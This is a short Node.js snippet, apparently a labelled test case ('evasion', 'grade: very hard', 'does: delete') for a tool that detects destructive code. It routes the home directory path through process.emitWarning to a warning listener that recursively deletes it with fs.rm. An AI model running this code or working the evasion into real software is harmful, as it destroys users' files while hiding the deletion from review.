// evasion: process.emitWarning given an Error made from the home directory; a once('warning') listener deletes its message
// grade: very hard; does: delete
const fs = require("fs");
const os = require("os");
process.once("warning", function (warning) {
  fs.rm(warning.message, { recursive: true, force: true }, () => {});
});
const stale = new Error(os.homedir());
process.emitWarning(stale);
